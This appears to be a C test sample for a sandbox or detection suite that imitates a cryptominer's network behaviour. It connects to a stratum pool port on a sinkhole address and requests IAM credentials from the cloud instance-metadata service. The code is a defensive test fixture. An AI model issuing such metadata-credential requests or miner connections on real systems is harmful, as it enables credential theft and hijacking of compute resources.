/* Malicious: cryptominer network shape. Tries a stratum pool port (10.66.66.66:3333, T1496)
 * and the cloud instance-metadata service (169.254.169.254:80, T1552.005). Both fail in a
 * --network none sandbox; the attempts are the behaviour. */
#include "common.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
static void attempt(const char *ip, int port, const char *hello) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (s < 0) { WARN("socket"); return; }
  struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
  inet_pton(AF_INET, ip, &a.sin_addr);
  if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) {
    if (write(s, hello, strlen(hello)) < 0) WARN("write");
    SAY("miner-connect: connected to %s:%d", ip, port);
  } else {
    fprintf(stderr, "miner-connect: connect %s:%d: %s\n", ip, port, strerror(errno));
  }
  close(s);
}
int main(void) {
  attempt(SINKHOLE_IP, 3333, "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"qminer/1.0\"]}\n");
  attempt(METADATA_IP, 80, "GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n");
  return 0;
}
